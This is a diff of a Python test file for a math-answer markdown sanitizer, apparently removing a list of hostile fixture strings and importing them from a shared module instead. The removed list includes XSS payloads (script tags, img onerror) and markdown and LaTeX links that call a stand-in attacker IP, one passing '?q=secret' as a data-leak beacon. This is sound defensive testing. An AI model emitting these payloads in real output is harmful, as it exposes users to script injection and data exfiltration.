@@ -17,26 +17,7 @@ from markdown_it import MarkdownIt
 
 from mathscout.markup import document_markdown, safe_math, sanitize_answer
 from tests.support.cli import REPO
-
-EVIL = "198.51.100.7"
-HOSTILE_PIECES = [
-    f"![x](http://{EVIL}/leak.png?q=secret)",
-    f"[click me](http://{EVIL}/phish)",
-    f"<img src=\"http://{EVIL}/x.png\" onerror=\"alert(1)\">",
-    f"<a href=\"http://{EVIL}/\">link</a>",
-    "<script>alert(1)</script>",
-    f"<iframe src=\"http://{EVIL}/\"></iframe>",
-    f"<http://{EVIL}/autolink>",
-    f"http://{EVIL}/bare",
-    f"www.{EVIL}.example/path",
-    "mail me: evil@example.com",
-    f"[ref link][1]\n[1]: http://{EVIL}/ref",
-    f"\\\\[escaped backslash then link](http://{EVIL}/x)",
-    f"&lt;img src=http://{EVIL}/entity.png&gt;",
-    f"$\\href{{http://{EVIL}/}}{{x}} + \\url{{http://{EVIL}/}} + \\includegraphics{{http://{EVIL}/i.png}}$",
-    f"$[a](http://{EVIL}/in-math)$ and $<img src=x>$",
-]
-HOSTILE_TEXT = "A real theorem: $\\sqrt{ab}=\\sqrt{a}\\sqrt{b}$ for $a, b \\geq 0$. " + " ".join(HOSTILE_PIECES)
+from tests.support.corpora import EVIL, HOSTILE_ID, HOSTILE_PIECES, HOSTILE_TEXT
 
 RENDER = MarkdownIt("commonmark", {"html": True})
 
@@ -73,9 +54,6 @@ def test_an_answer_keeps_its_citations_and_math_but_loses_links():
 
 
 # --- end to end over a real index ---------------------------------------------------------------------------
-
-HOSTILE_ID = "hostile-1"
-
 
 @pytest.fixture(scope="module")
 def hostile_index(shared_data, tmp_path_factory):
